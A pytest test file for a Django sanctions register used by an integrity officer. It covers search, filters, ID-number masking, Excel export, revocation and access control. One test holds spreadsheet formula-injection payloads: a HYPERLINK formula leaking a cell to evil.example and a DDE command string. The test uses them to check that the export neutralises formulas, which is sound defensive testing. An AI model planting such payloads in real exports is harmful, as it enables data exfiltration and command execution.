"""The register of sanctions as the integrity officer's pages: find, export, read, record,
correct, revoke — ID numbers masked everywhere they are shown, every change journaled."""

import datetime
import io
import re
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.identity import mask_id_number
from integrity.models import Gate, Sanction, SubjectKind
from integrity.policy import Subject, check_veto
from integrity.services import record_sanction
from trail.models import Event
from workflows import demo

pytestmark = pytest.mark.django_db
TODAY = timezone.localdate()
TITLE = re.compile(r"<title>(.*?)</title>", re.S)

PERSON_X = demo.person_id(901)  # ends in X
PERSON = demo.person_id(902)
ORG = demo.credit_code(50)


def years(n: int, start: datetime.date = TODAY) -> datetime.date:
    if (start.month, start.day) == (2, 29):
        start = start.replace(day=28)
    return start.replace(year=start.year + n)


def record(county, **fields) -> Sanction:
    values = {
        "subject_kind": SubjectKind.PERSON,
        "subject_id": PERSON,
        "subject_name": "刘某某",
        "subject_unit": "浙东智能装备有限公司",
        "severity": "serious",
        "measures": ["ban"],
        "gates": ["apply", "review"],
        "decision_no": "市科信〔2026〕1号",
        "reason": "申报材料造假（市科技局决定）。",
        "starts_on": TODAY,
        "ends_on": years(2),
    }
    values.update(fields)
    return record_sanction(Sanction(**values), county.users["integrity"])


def minor(county, **fields) -> Sanction:
    values = {
        "subject_name": "轻微某",
        "subject_id": demo.person_id(903),
        "severity": "minor",
        "measures": ["talk"],
        "gates": [],
        "ends_on": None,
        "decision_no": "市科信〔2026〕2号",
    }
    values.update(fields)
    return record(county, **values)


@pytest.fixture
def officer(client, county):
    client.force_login(county.users["integrity"])
    client.cookies["django_language"] = "en"
    return client


def page(client, name="register", args=(), **query) -> str:
    response = client.get(reverse(name, args=args), query)
    assert response.status_code == 200
    return response.content.decode()


def shown_names(html: str) -> set[str]:
    """The subjects listed in the register table."""
    table = html.split('data-testid="register"', 1)[1]
    return set(re.findall(r'<a href="/integrity/register/\d+/">(.*?)</a>', table))


def workbook(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    return load_workbook(io.BytesIO(response.content))


def sheet_rows(response) -> list[tuple]:
    return list(workbook(response).active.iter_rows(values_only=True))


# Finding sanctions


def test_search_by_part_of_the_name(officer, county):
    record(county, subject_name="刘某某")
    record(county, subject_name="王某", subject_id=PERSON_X)
    assert shown_names(page(officer, q="刘某")) == {"刘某某"}


def test_search_by_unit_and_decision_number(officer, county):
    record(county, subject_unit="东海理工大学", decision_no="省科信〔2025〕7号")
    record(county, subject_id=PERSON_X, subject_name="王某", decision_no="市科信〔2026〕8号")
    assert shown_names(page(officer, q="东海理工")) == {"刘某某"}
    assert shown_names(page(officer, q="〔2026〕8号")) == {"王某"}


@pytest.mark.parametrize(
    "typed",
    [
        PERSON_X,
        PERSON_X.lower(),
        "330127 19800101 901x",
        PERSON_X.translate(str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")),
        " ３３０１２７１９８００１０１９０１ｘ ",
    ],
)
def test_search_by_id_number_however_it_is_typed(officer, county, typed):
    record(county, subject_id=PERSON_X, subject_name="王某")
    record(county, subject_id=PERSON, subject_name="刘某某")
    assert shown_names(page(officer, q=typed)) == {"王某"}


def test_search_by_the_last_digits_shown_in_the_masked_column(officer, county):
    record(county, subject_id=PERSON_X, subject_name="王某")
    record(county, subject_id=PERSON, subject_name="刘某某")
    assert shown_names(page(officer, q=PERSON_X[-4:].lower())) == {"王某"}


def test_search_by_credit_code(officer, county):
    record(county, subject_kind=SubjectKind.ORGANISATION, subject_id=ORG, subject_name="某公司")
    record(county, subject_name="刘某某")
    for typed in (ORG, ORG.lower(), f" {ORG[:9]} {ORG[9:]} "):
        assert shown_names(page(officer, q=typed)) == {"某公司"}


def test_filters_by_status_severity_and_subject_kind(officer, county):
    record(county, subject_name="刘某某")
    revoked = record(county, subject_id=PERSON_X, subject_name="王某")
    officer.post(reverse("sanction-revoke", args=[revoked.pk]), {"reason": "复查撤销"})
    minor(county)
    record(
        county,
        subject_kind=SubjectKind.ORGANISATION,
        subject_id=ORG,
        subject_name="某公司",
        severity="severe",
        ends_on=years(4),
    )
    assert shown_names(page(officer, status="revoked")) == {"王某"}
    assert shown_names(page(officer, status="effective")) == {"刘某某", "轻微某", "某公司"}
    assert shown_names(page(officer, severity="minor")) == {"轻微某"}
    assert shown_names(page(officer, severity="severe")) == {"某公司"}
    assert shown_names(page(officer, subject_kind="organisation")) == {"某公司"}
    assert shown_names(page(officer, subject_kind="person", severity="serious")) == {
        "刘某某",
        "王某",
    }


def test_filter_by_barred_action(officer, county):
    record(county, subject_name="刘某某", gates=["apply", "review"])
    record(county, subject_id=PERSON_X, subject_name="王某", gates=["audit"])
    minor(county)
    assert shown_names(page(officer, gate="apply")) == {"刘某某"}
    assert shown_names(page(officer, gate="audit")) == {"王某"}
    assert shown_names(page(officer, gate="certificate")) == set()


def test_filter_in_force_on_a_date(officer, county):
    record(county, subject_name="现行某")
    record(
        county,
        subject_id=PERSON_X,
        subject_name="期满某",
        starts_on=years(-4),
        ends_on=years(-2),
    )
    record(
        county,
        subject_id=demo.person_id(904),
        subject_name="将来某",
        starts_on=TODAY + datetime.timedelta(days=30),
        ends_on=years(2, TODAY + datetime.timedelta(days=30)),
    )
    revoked = record(county, subject_id=demo.person_id(905), subject_name="撤销某")
    officer.post(reverse("sanction-revoke", args=[revoked.pk]), {"reason": "复查撤销"})
    assert shown_names(page(officer, in_force_on=TODAY.isoformat())) == {"现行某"}
    later = (TODAY + datetime.timedelta(days=40)).isoformat()
    assert shown_names(page(officer, in_force_on=later)) == {"现行某", "将来某"}
    earlier = years(-3).isoformat()
    assert shown_names(page(officer, in_force_on=earlier)) == {"期满某"}


def test_filter_by_recorded_and_start_dates(officer, county):
    record(county, subject_name="今日某")
    record(
        county, subject_id=PERSON_X, subject_name="早年某", starts_on=years(-4), ends_on=years(-2)
    )
    yesterday = (TODAY - datetime.timedelta(days=1)).isoformat()
    assert shown_names(page(officer, recorded_from=TODAY.isoformat())) == {"今日某", "早年某"}
    assert shown_names(page(officer, recorded_to=yesterday)) == set()
    assert shown_names(page(officer, starts_from=yesterday)) == {"今日某"}
    assert shown_names(page(officer, starts_to=yesterday)) == {"早年某"}
    assert shown_names(
        page(officer, starts_from=years(-5).isoformat(), starts_to=years(-3).isoformat())
    ) == {"早年某"}


def test_bad_filter_input_shows_errors_not_a_500(officer, county):
    record(county)
    html = page(officer, in_force_on="2026-13-45", status="bogus", gate="nowhere", page="x")
    assert "Enter a valid date." in html
    assert "Select a valid choice." in html
    assert "Correct the filters" in html
    assert 'data-testid="register"' not in html  # no rows instead of the whole register
    assert "2026-13-45" in html  # what was typed comes back
    # The export refuses the same way and sends the officer back to the errors.
    response = officer.get(reverse("register-export"), {"recorded_from": "yesterday"})
    assert response.status_code == 302
    assert "recorded_from=yesterday" in response["Location"]


def test_counts_and_sorting(officer, county):
    record(county, subject_name="乙某", decision_no="B-2")
    record(county, subject_id=PERSON_X, subject_name="甲某", decision_no="A-1", under_appeal=True)
    minor(county, decision_no="C-3")
    html = page(officer)
    assert "Showing 1–3 of 3 sanctions" in html
    assert "3 in force today" in html and "1 under appeal" in html
    ordered = page(officer, sort="decision_no")
    assert ordered.index("A-1") < ordered.index("B-2") < ordered.index("C-3")
    reverse_order = page(officer, sort="-decision_no")
    assert reverse_order.index("C-3") < reverse_order.index("A-1")
    assert "under appeal" in page(officer, q="甲某")


def test_list_pages_25_at_a_time_with_the_same_queries_for_ten_times_the_rows(officer, county):
    def queries_for_the_page() -> tuple[int, str]:
        with CaptureQueriesContext(connection) as captured:
            html = page(officer)
        return len(captured), html

    for n in range(3):
        record(county, subject_id=demo.person_id(100 + n), subject_name=f"对象{n}")
    page(officer)  # the first request after signing in also saves the session
    few, _html = queries_for_the_page()
    for n in range(3, 30):
        record(county, subject_id=demo.person_id(100 + n), subject_name=f"对象{n}")
    many, html = queries_for_the_page()
    assert many == few
    assert len(shown_names(html)) == 25
    assert "Showing 1–25 of 30 sanctions" in html
    assert len(shown_names(page(officer, page=2))) == 5


# Masked numbers and the Excel export


def test_id_numbers_are_masked_on_the_pages_and_credit_codes_shown(officer, county):
    person = record(county, subject_id=PERSON_X, subject_name="王某")
    org = record(
        county, subject_kind=SubjectKind.ORGANISATION, subject_id=ORG, subject_name="某公司"
    )
    officer.post(
        reverse("sanction-edit", args=[person.pk]),
        form_data(person, subject_id=PERSON, decision_no="改号"),
    )
    for html in (page(officer), page(officer, "sanction", [person.pk])):
        assert PERSON_X not in html and PERSON not in html
        assert PERSON_X.lower() not in html
    detail = page(officer, "sanction", [person.pk])
    assert mask_id_number(PERSON) in detail and mask_id_number(PERSON_X) in detail  # history
    assert mask_id_number(PERSON) in page(officer)
    assert ORG in page(officer) and ORG in page(officer, "sanction", [org.pk])
    edit = page(officer, "sanction-edit", [person.pk])
    assert PERSON not in edit and mask_id_number(PERSON) in edit


def test_export_has_the_filtered_rows_masked_with_dates_as_dates(officer, county):
    record(county, subject_id=PERSON_X, subject_name="王某")
    minor(county, subject_name="轻微某")
    record(county, subject_kind=SubjectKind.ORGANISATION, subject_id=ORG, subject_name="某公司")
    response = officer.get(reverse("register-export"), {"severity": "serious"})
    assert "attachment" in response["Content-Disposition"]
    book = workbook(response)
    rows = list(book.active.iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert "Subject" in header and "ID number or credit code" in header
    assert {row[0] for row in body} == {"王某", "某公司"}
    numbers = {row[header.index("ID number or credit code")] for row in body}
    assert numbers == {mask_id_number(PERSON_X), ORG}
    starts = [row[header.index("Starts on")] for row in body]
    assert all(isinstance(d, datetime.datetime) and d.date() == TODAY for d in starts)
    # Nowhere in the file, in any form: the full ID number.
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        raw = "".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())
    assert PERSON_X not in raw and PERSON_X[:14] not in raw
    everything = sheet_rows(officer.get(reverse("register-export")))
    assert len(everything) == 4


def test_export_neutralises_formulas(officer, county):
    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"点击")'
    record(county, subject_name=evil, subject_unit="+cmd|' /C calc'!A0", decision_no="@SUM(1)")
    response = officer.get(reverse("register-export"))
    sheet = workbook(response).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in texts)
    assert f"'{evil}" in [cell.value for cell in texts]
    assert not any(cell.value.startswith(("=", "+", "-", "@")) for cell in texts)
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml


# One sanction: details, history, revocation, rectification


def form_data(sanction: Sanction | None = None, **changes) -> dict:
    data = {
        "subject_kind": "person",
        "subject_id": "",
        "subject_name": "刘某某",
        "subject_unit": "浙东智能装备有限公司",
        "severity": "serious",
        "measures": ["ban"],
        "gates": ["apply", "review"],
        "decision_no": "市科信〔2026〕1号",
        "reason": "申报材料造假。",
        "starts_on": TODAY.isoformat(),
        "ends_on": years(2).isoformat(),
        "rectify_by": "",
    }
    if sanction is not None:
        data.update(
            subject_kind=sanction.subject_kind,
            subject_name=sanction.subject_name,
            subject_unit=sanction.subject_unit,
            severity=sanction.severity,
            measures=sanction.measures,
            gates=sanction.gates,
            decision_no=sanction.decision_no,
            reason=sanction.reason,
            starts_on=sanction.starts_on.isoformat(),
            ends_on=sanction.ends_on.isoformat() if sanction.ends_on else "",
            rectify_by=sanction.rectify_by.isoformat() if sanction.rectify_by else "",
        )
    data.update(changes)
    return data


def test_the_history_shows_before_and_after_of_a_correction(officer, county):
    sanction = record(county, decision_no="市科信〔2026〕1号", subject_unit="旧单位")
    response = officer.post(
        reverse("sanction-edit", args=[sanction.pk]),
        form_data(sanction, decision_no="市科信〔2026〕11号", subject_unit="新单位"),
    )
    assert response.status_code == 302
    sanction.refresh_from_db()
    assert sanction.decision_no == "市科信〔2026〕11号" and sanction.subject_id == PERSON
    html = page(officer, "sanction", [sanction.pk])
    history = html.split('data-testid="history"', 1)[1]
    assert "Sanction recorded" in history and "赵诚信" in history
    correction = history.split("</li>")[1]  # the second event: the correction
    assert "<td>Unit</td><td>旧单位</td><td>→ 新单位</td>" in correction
    assert "<td>市科信〔2026〕1号</td><td>→ 市科信〔2026〕11号</td>" in correction
    assert "Barred actions" not in correction  # unchanged: not listed


def test_the_case_it_came_from_is_linked(officer, county):
    from integrity.models import MisconductCase

    sanction = record(county, subject_id=PERSON_X, subject_name="王某")
    # Made directly: the case procedure is tested in test_cases; here only the link counts.
    case = MisconductCase.objects.create(
        respondent_kind=SubjectKind.PERSON,
        respondent_id=PERSON_X,
        respondent_name="王某",
        misconduct="false_application",
        allegation="伪造证书。",
        sanction=sanction,
        opened_by=county.users["integrity"],
    )
    assert reverse("case", args=[case.pk]) in page(officer, "sanction", [sanction.pk])
    plain = record(county)
    assert "none: decided by another body" in page(officer, "sanction", [plain.pk])


def test_revoking_needs_a_reason_then_lifts_the_veto(officer, county):
    sanction = record(county, subject_id=PERSON_X, subject_name="王某")
    subject = Subject(SubjectKind.PERSON, PERSON_X, "王某", "PI")
    assert not check_veto([subject], Gate.APPLY).passed
    events = Event.objects.count()
    response = officer.post(reverse("sanction-revoke", args=[sanction.pk]), {"reason": "   "})
    assert response.status_code == 200
    assert "This field is required." in response.content.decode()
    sanction.refresh_from_db()
    assert sanction.status == Sanction.Status.EFFECTIVE and Event.objects.count() == events
    response = officer.post(
        reverse("sanction-revoke", args=[sanction.pk]), {"reason": "复查认定证书真实"}
    )
    assert response.status_code == 302
    sanction.refresh_from_db()
    assert sanction.status == Sanction.Status.REVOKED
    assert sanction.revoked_reason == "复查认定证书真实"
    assert check_veto([subject], Gate.APPLY).passed
    html = page(officer, "sanction", [sanction.pk])
    assert "Sanction revoked" in html and "复查认定证书真实" in html
    assert 'data-action="revoke"' not in html


def test_a_revoked_sanction_cannot_be_corrected(officer, county):
    sanction = record(county)
    officer.post(reverse("sanction-revoke", args=[sanction.pk]), {"reason": "复查撤销"})
    response = officer.get(reverse("sanction-edit", args=[sanction.pk]), follow=True)
    assert "A revoked sanction cannot be changed" in response.content.decode()
    officer.post(reverse("sanction-edit", args=[sanction.pk]), form_data(sanction, decision_no="X"))
    sanction.refresh_from_db()
    assert sanction.decision_no == "市科信〔2026〕1号"
    assert sanction.status == Sanction.Status.REVOKED


def test_recording_a_rectification(officer, county):
    sanction = minor(
        county,
        measures=["suspend_rectify"],
        starts_on=TODAY - datetime.timedelta(days=30),
        rectify_by=TODAY - datetime.timedelta(days=1),
    )
    html = page(officer, "sanction", [sanction.pk])
    assert "rectification overdue since" in html
    assert "rectification overdue since" in page(officer)
    future = (TODAY + datetime.timedelta(days=3)).isoformat()
    response = officer.post(reverse("sanction-rectified", args=[sanction.pk]), {"done_on": future})
    assert response.status_code == 200
    assert "cannot be dated in the future" in response.content.decode()
    assert future in response.content.decode()
    sanction.refresh_from_db()
    assert sanction.rectified_on is None
    response = officer.post(
        reverse("sanction-rectified", args=[sanction.pk]), {"done_on": TODAY.isoformat()}
    )
    assert response.status_code == 302
    sanction.refresh_from_db()
    assert sanction.rectified_on == TODAY
    html = page(officer, "sanction", [sanction.pk])
    assert 'data-action="rectified"' not in html and "rectified on" in html


def test_no_rectification_form_without_that_measure(officer, county):
    sanction = record(county)
    assert 'data-action="rectified"' not in page(officer, "sanction", [sanction.pk])


# Recording and correcting through the form


def test_recording_a_sanction_decided_elsewhere(officer, county):
    typed = PERSON_X.lower().translate(str.maketrans("0123", "０１２３"))
    response = officer.post(
        reverse("sanction-new"), form_data(subject_id=typed, subject_name="外地某")
    )
    assert response.status_code == 302
    sanction = Sanction.objects.get(subject_name="外地某")
    assert sanction.subject_id == PERSON_X and sanction.recorded_by == county.users["integrity"]
    assert response["Location"] == reverse("sanction", args=[sanction.pk])
    assert shown_names(page(officer)) == {"外地某"}
    assert not check_veto(
        [Subject(SubjectKind.PERSON, PERSON_X, "外地某", "PI")], Gate.APPLY
    ).passed


def test_correcting_keeps_the_number_when_left_empty(officer, county):
    sanction = record(county)
    officer.post(
        reverse("sanction-edit", args=[sanction.pk]), form_data(sanction, subject_name="刘某")
    )
    sanction.refresh_from_db()
    assert sanction.subject_name == "刘某" and sanction.subject_id == PERSON


@pytest.mark.parametrize(
    "changes, field_error",
    [
        ({"subject_id": "33012719800101901Y"}, "An ID number has 18 characters"),
        ({"subject_id": PERSON_X[:-1] + "1"}, "check digit of this ID number is wrong"),
        (
            {"subject_kind": "organisation", "subject_id": ORG[:-1] + "A"},
            "check character of this credit code is wrong",
        ),
        ({"ends_on": years(5).isoformat()}, "This severity bans for 1–3 years."),
        ({"ends_on": ""}, "Only an especially severe case may be permanent."),
        (
            {"severity": "minor", "measures": ["talk"], "gates": ["apply"], "ends_on": ""},
            "A minor case carries no ban; choose no barred actions.",
        ),
        ({"measures": []}, "This field is required."),
        ({"ends_on": (TODAY - datetime.timedelta(days=1)).isoformat()}, "cannot precede"),
        ({"measures": ["suspend_rectify"], "severity": "minor", "gates": []}, "deadline"),
    ],
)
def test_bad_input_comes_back_with_errors_and_what_was_typed(officer, county, changes, field_error):
    data = form_data(subject_id=PERSON_X, subject_name="输入保留某", decision_no="保留〔2026〕5号")
    data.update(changes)
    events = Event.objects.count()
    response = officer.post(reverse("sanction-new"), data)
    assert response.status_code == 200
    html = response.content.decode()
    assert field_error in html
    assert 'class="errorlist' in html
    assert "输入保留某" in html and "保留〔2026〕5号" in html
    if changes.get("subject_id"):
        assert changes["subject_id"] in html
    assert not Sanction.objects.exists() and Event.objects.count() == events


def test_garbage_is_refused_field_by_field_never_a_500(officer, county):
    garbage = {
        "subject_kind": "robot",
        "subject_id": "x" * 200,
        "severity": "apocalyptic",
        "measures": ["ban", "exile"],
        "gates": ["moon"],
        "starts_on": "2026-02-30",
        "ends_on": "tomorrow",
        "rectify_by": "1e9",
    }
    response = officer.post(reverse("sanction-new"), garbage)
    assert response.status_code == 200
    errors = response.context["form"].errors
    for field in garbage:
        assert field in errors, field
    assert not Sanction.objects.exists()
    assert officer.post(reverse("sanction-new"), {}).status_code == 200
    assert officer.get(reverse("sanction-edit", args=[999])).status_code == 404
    assert officer.get(reverse("sanction", args=[999])).status_code == 404
    assert officer.post(reverse("sanction-revoke", args=[999]), {"reason": "x"}).status_code == 404


def test_a_ban_error_is_shown_at_the_end_date(officer, county):
    response = officer.post(
        reverse("sanction-new"), form_data(subject_id=PERSON_X, ends_on=years(5).isoformat())
    )
    form = response.context["form"]
    assert "ends_on" in form.errors


# Who may see the register


URLS = [
    ("register", False, "get"),
    ("register-export", False, "get"),
    ("sanction-new", False, "get"),
    ("sanction", True, "get"),
    ("sanction-edit", True, "get"),
    ("sanction-revoke", True, "post"),
    ("sanction-rectified", True, "post"),
]


@pytest.mark.parametrize("who", ["staff", "applicant", "leader", "expert1", "vetoed"])
def test_only_the_integrity_officer_reaches_the_register(client, county, who):
    sanction = record(county)
    client.force_login(county.users[who])
    for name, needs_pk, method in URLS:
        url = reverse(name, args=[sanction.pk] if needs_pk else [])
        response = getattr(client, method)(url, {"reason": "x", "done_on": TODAY.isoformat()})
        assert response.status_code == 403, name
    sanction.refresh_from_db()
    assert sanction.status == Sanction.Status.EFFECTIVE


def test_anonymous_visitors_are_sent_to_sign_in(client, county):
    sanction = record(county)
    for name, needs_pk, method in URLS:
        response = getattr(client, method)(reverse(name, args=[sanction.pk] if needs_pk else []))
        assert response.status_code == 302, name
        assert response["Location"].startswith(reverse("login")), name


def test_the_menu_links_the_register_for_the_officer_only(client, county):
    client.force_login(county.users["integrity"])
    assert f'href="{reverse("register")}"' in page(client, "inbox")
    client.force_login(county.users["staff"])
    assert f'href="{reverse("register")}"' not in page(client, "inbox")


def test_pages_have_a_plain_title(officer, county):
    sanction = record(county)
    for name, args in [
        ("register", []),
        ("sanction", [sanction.pk]),
        ("sanction-new", []),
        ("sanction-edit", [sanction.pk]),
    ]:
        title = TITLE.search(page(officer, name, args)).group(1).strip()
        assert title and "<" not in title and len(title) < 250
